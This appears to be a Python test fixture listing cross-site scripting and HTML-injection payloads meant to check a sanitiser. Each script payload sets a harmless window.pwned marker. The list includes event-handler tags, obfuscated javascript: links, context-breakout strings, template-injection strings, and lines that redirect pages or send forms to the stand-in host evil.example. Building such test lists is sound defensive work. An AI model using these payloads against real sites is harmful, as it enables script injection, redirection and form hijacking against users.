"""Markup that somebody may write where a ward expects a word; each sets a mark if it is ever run."""

from __future__ import annotations

MARK = "window.pwned"
RUNS = f"{MARK}=1"
_TAGS = ("img src=x", "svg", "body", "details open", "iframe", "input autofocus", "marquee")
_EVENTS = ("onerror", "onload", "ontoggle", "onfocus", "onstart", "onmouseover")
_SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "data:text/html,<script>", "vbscript:")

PAYLOADS = [
    *(f"<{name} {event}={RUNS}>" for name in _TAGS for event in _EVENTS),
    *(f'"><a href="{scheme}{RUNS}">x</a>' for scheme in _SCHEMES),
    f"<script>{RUNS}</script>",
    f"</script><script>{RUNS}</script>",
    f"</title><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"]]><script>{RUNS}</script>",
    f"'-{RUNS}-'",
    f"' onmouseover='{RUNS}",
    f'" onfocus="{RUNS}" autofocus="',
    f"{{{{ {RUNS} }}}}",
    f"{{% print('{RUNS}') %}}",
    f"${{{RUNS}}}",
    f"&lt;script&gt;{RUNS}&lt;/script&gt;",
    f"\u2028<script>{RUNS}</script>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>*{display:none}</style>",
    "<form action=http://evil.example><button>",
    "<use href='data:image/svg+xml,<svg onload=1>'>",
]
